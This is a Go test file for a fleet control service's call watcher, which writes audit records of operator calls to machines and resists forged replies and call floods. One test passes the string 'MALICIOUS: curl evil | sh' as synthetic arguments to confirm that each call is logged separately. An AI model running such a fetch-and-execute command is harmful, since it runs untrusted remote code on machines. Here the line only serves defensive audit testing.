package controlsvc

import (
	"path/filepath"
	"strconv"
	"testing"
	"time"

	"github.com/nats-io/nats.go"

	"github.com/commandcontrol/commandcontrol/fleet"
)

// watchFixture is a call watcher (responder and matcher) fed synthetic
// messages, with a clock the test moves and the records and answers it
// produced.
type watchFixture struct {
	w     *callWatch
	clock time.Time
	recs  []fleet.AuditRecord
	sent  []*nats.Msg
}

const (
	wAlice = "UALICEKEY"
	wBob   = "UBOBKEY"
)

func newWatchFixture(t *testing.T, online ...string) *watchFixture {
	t.Helper()
	reg, err := OpenRegistry(filepath.Join(t.TempDir(), "registry.json"))
	if err != nil {
		t.Fatal(err)
	}
	pres := newPresence(func(string) map[string]string { return nil }, func(fleet.PresenceEvent) {})
	for i, id := range online {
		pres.connected(connKey{server: "S", cid: uint64(i + 1)}, agentUserPrefix+id)
	}
	f := &watchFixture{clock: time.Date(2031, 1, 2, 3, 4, 5, 0, time.UTC)}
	operatorName := func(key string) (string, bool) {
		op, ok := reg.OperatorByKey(key)
		return op.Name, ok
	}
	f.w = newCallWatch(nil,
		&offlineResponder{machines: pres, publish: func(m *nats.Msg) error { f.sent = append(f.sent, m); return nil }},
		newCallMatcher(pres, operatorName, 10*time.Second, func() time.Time { return f.clock },
			func(r fleet.AuditRecord) { f.recs = append(f.recs, r) }))
	return f
}

func (f *watchFixture) request(subject, reply, callID, args string) {
	m := &nats.Msg{Subject: subject, Reply: reply, Data: []byte(args), Header: nats.Header{}}
	if callID != "" {
		m.Header.Set(fleet.HeaderCallID, callID)
	}
	f.w.handle(m)
}

// answer is machine's reply on subject; header is what the reply claims
// to be from (an agent writes it, so it proves nothing).
func (f *watchFixture) answer(subject, fn, header string, code int) {
	m := &nats.Msg{Subject: subject, Data: []byte(`{}`), Header: nats.Header{}}
	m.Header.Set(fleet.HeaderFunction, fn)
	m.Header.Set(fleet.HeaderMachine, header)
	if code != 0 {
		m.Header.Set(fleet.HeaderErrorCode, strconv.Itoa(code))
		m.Header.Set(fleet.HeaderError, "failed")
	}
	f.w.handle(m)
}

func (f *watchFixture) flushAll() { f.clock = f.clock.Add(time.Hour); f.w.matcher.flushDue(f.clock) }

func outcomes(r fleet.AuditRecord) map[string]string {
	out := map[string]string{}
	for _, o := range r.Outcomes {
		out[o.Machine] = o.Status
	}
	return out
}

// Each call's own arguments are recorded, even when a caller sends two
// calls with different arguments under one reply subject (finding: the
// watcher kept the first call's arguments for both).
func TestCallWatchRecordsEachCallsArguments(t *testing.T) {
	f := newWatchFixture(t, "web01")
	tok := fleet.MachineToken("web01")
	f.request(fleet.FnSubject("web01", "run", wAlice), fleet.CallReply(wAlice, tok, "c1", 0), "c1", `{"what":"uptime"}`)
	f.request(fleet.FnSubject("web01", "run", wAlice), fleet.CallReply(wAlice, tok, "c1", 0), "c1", `{"what":"MALICIOUS: curl evil | sh"}`)
	f.flushAll()
	if len(f.recs) != 2 {
		t.Fatalf("got %d records, want 2 (one per call): %+v", len(f.recs), f.recs)
	}
	args := map[string]bool{}
	for _, r := range f.recs {
		args[string(r.Args)] = true
		if r.Targets != 1 {
			t.Errorf("record %s: %d targets, want 1", r.Args, r.Targets)
		}
	}
	for _, want := range []string{`{"what":"uptime"}`, `{"what":"MALICIOUS: curl evil | sh"}`} {
		if !args[want] {
			t.Errorf("no record with arguments %s (got %v)", want, args)
		}
	}
}

// A broadcast's replies count for the machine the reply subject names,
// not for the one a header claims; the caller is the key the call
// subject ends with, not the inbox it chose.
func TestCallWatchAttributesBySubject(t *testing.T) {
	f := newWatchFixture(t, "web01", "web02", "web03")
	f.request(fleet.AllSubject("installed-sec-patches", wAlice), fleet.CallReply(wAlice, fleet.ReplyToAll, "c2", 0), "c2", ``)
	// web01 forges answers "from" web02 and web03: on its own subject.
	for _, claimed := range []string{"web02", "web03", "web01"} {
		f.answer(fleet.CallReply(wAlice, "web01", "c2", 0), "installed-sec-patches", claimed, 0)
	}
	f.answer(fleet.CallReply(wAlice, "web02", "c2", 0), "installed-sec-patches", "web02", fleet.CodeUnavailable)
	f.flushAll()
	if len(f.recs) != 1 {
		t.Fatalf("got %d records, want 1", len(f.recs))
	}
	r := f.recs[0]
	got := outcomes(r)
	want := map[string]string{"web01": fleet.OutcomeOK, "web02": fleet.OutcomeError, "web03": fleet.OutcomeNoResponse}
	for m, st := range want {
		if got[m] != st {
			t.Errorf("%s: got %q, want %q (all: %v)", m, got[m], st, got)
		}
	}
	if r.OperatorKey != wAlice || !r.Broadcast {
		t.Errorf("record: operator %q broadcast %v, want %q true", r.OperatorKey, r.Broadcast, wAlice)
	}
}

// A re-sent copy (call id, own reply subject) is the same target; an
// answer to it counts once.
func TestCallWatchResendIsOneTarget(t *testing.T) {
	f := newWatchFixture(t, "web01")
	for k := range 3 {
		f.request(fleet.FnSubject("web01", "sw-list", wBob), fleet.CallReply(wBob, "web01", "c3", k), "c3", `{}`)
	}
	f.answer(fleet.CallReply(wBob, "web01", "c3", 2), "sw-list", "web01", 0)
	f.answer(fleet.CallReply(wBob, "web01", "c3", 0), "sw-list", "web01", 0) // late answer to copy 0: a duplicate
	f.flushAll()
	if len(f.recs) != 1 || f.recs[0].Targets != 1 || f.recs[0].OK != 1 {
		t.Fatalf("got %+v, want one record with one ok target", f.recs)
	}
}

// A copy to an offline machine is answered "no responders" at once and
// settled; the machine's own answer to a later copy still wins.
func TestCallWatchOfflineThenAnswer(t *testing.T) {
	f := newWatchFixture(t)
	f.request(fleet.FnSubject("db01", "sw-list", wBob), fleet.CallReply(wBob, "db01", "c4", 0), "c4", `{}`)
	if len(f.sent) != 1 || f.sent[0].Header.Get("Status") != "503" || f.sent[0].Subject != fleet.CallReply(wBob, "db01", "c4", 0) {
		t.Fatalf("want one no-responders answer on the copy's subject, got %+v", f.sent)
	}
	f.answer(fleet.CallReply(wBob, "db01", "c4", 1), "sw-list", "db01", 0)
	f.flushAll()
	if len(f.recs) != 1 || outcomes(f.recs[0])["db01"] != fleet.OutcomeOK {
		t.Fatalf("got %+v, want db01 ok", f.recs)
	}
}

// A reply subject that is not the caller's own inbox is answered by no
// agent: nothing is recorded and nothing is sent into another inbox. One
// under the caller's inbox but of the wrong shape gets a 400 saying what
// the shape must be.
func TestCallWatchRefusesForeignOrMalformedReplies(t *testing.T) {
	f := newWatchFixture(t, "web01")
	f.request(fleet.FnSubject("web01", "sw-list", wBob), fleet.CallReply(wAlice, "web01", "c5", 0), "c5", `{}`)
	if len(f.sent) != 0 {
		t.Fatalf("sent into another operator's inbox: %+v", f.sent)
	}
	f.request(fleet.FnSubject("web01", "sw-list", wBob), fleet.OperatorInbox(wBob)+".x", "", `{}`)
	if len(f.sent) != 1 || f.sent[0].Header.Get(fleet.HeaderErrorCode) != "400" {
		t.Fatalf("want a 400 for a malformed reply subject, got %+v", f.sent)
	}
	f.flushAll()
	if len(f.recs) != 0 {
		t.Fatalf("recorded calls no agent runs: %+v", f.recs)
	}
}

// A call whose replies do not all come is recorded when its wait ends,
// by the injected clock, with the missing targets as no-response.
func TestCallWatchDeadlineByClock(t *testing.T) {
	f := newWatchFixture(t, "web01", "web02")
	f.request(fleet.AllSubject("current-load", wAlice), fleet.CallReply(wAlice, fleet.ReplyToAll, "c6", 0), "c6", ``)
	f.answer(fleet.CallReply(wAlice, "web01", "c6", 0), "current-load", "web01", 0)
	f.clock = f.clock.Add(9 * time.Second)
	f.w.matcher.flushDue(f.clock)
	if len(f.recs) != 0 {
		t.Fatalf("recorded before the wait ended: %+v", f.recs)
	}
	f.clock = f.clock.Add(2 * time.Second)
	f.w.matcher.flushDue(f.clock)
	if len(f.recs) != 1 || f.recs[0].OK != 1 || f.recs[0].NoResp != 1 {
		t.Fatalf("got %+v, want 1 ok and 1 no-response", f.recs)
	}
}

// Something published on a machine's reply subject that is not an agent's
// answer (its micro discovery reply, aimed there) neither counts nor
// shadows the machine's real answer.
func TestCallWatchIgnoresNonAnswers(t *testing.T) {
	f := newWatchFixture(t, "web01")
	f.request(fleet.FnSubject("web01", "sw-list", wBob), fleet.CallReply(wBob, "web01", "c7", 0), "c7", `{}`)
	f.w.handle(&nats.Msg{Subject: fleet.CallReply(wBob, "web01", "c7", 0) + ".x", Data: []byte(`{"type":"io.nats.micro.v1.ping_response"}`), Header: nats.Header{}})
	f.answer(fleet.CallReply(wBob, "web01", "c7", 0), "sw-list", "web01", fleet.CodeUnavailable)
	f.flushAll()
	if len(f.recs) != 1 || outcomes(f.recs[0])["web01"] != fleet.OutcomeError {
		t.Fatalf("got %+v, want web01's own answer (an error)", f.recs)
	}
}

// One operator's flood of calls nobody answers records its own oldest
// calls early, not another operator's open call.
func TestCallWatchFloodEvictsTheFloodersCalls(t *testing.T) {
	f := newWatchFixture(t, "web01")
	f.request(fleet.FnSubject("web01", "sw-list", wBob), fleet.CallReply(wBob, "web01", "bob", 0), "bob", `{}`)
	for i := range maxWatchedPerCaller + 100 {
		c := "v" + strconv.Itoa(i)
		f.request(fleet.FnSubject("web01", "sw-list", wAlice), fleet.CallReply(wAlice, "web01", c, 0), c, `{}`)
	}
	for _, r := range f.recs {
		if r.OperatorKey == wBob {
			t.Fatalf("bob's open call was recorded early: %+v", r)
		}
	}
	if len(f.recs) != 100 {
		t.Fatalf("%d of the flooder's calls recorded early, want 100", len(f.recs))
	}
	f.answer(fleet.CallReply(wBob, "web01", "bob", 0), "sw-list", "web01", 0)
	f.flushAll()
	for _, r := range f.recs {
		if r.OperatorKey == wBob && r.OK != 1 {
			t.Fatalf("bob's call: %+v, want its answer", r)
		}
	}
}
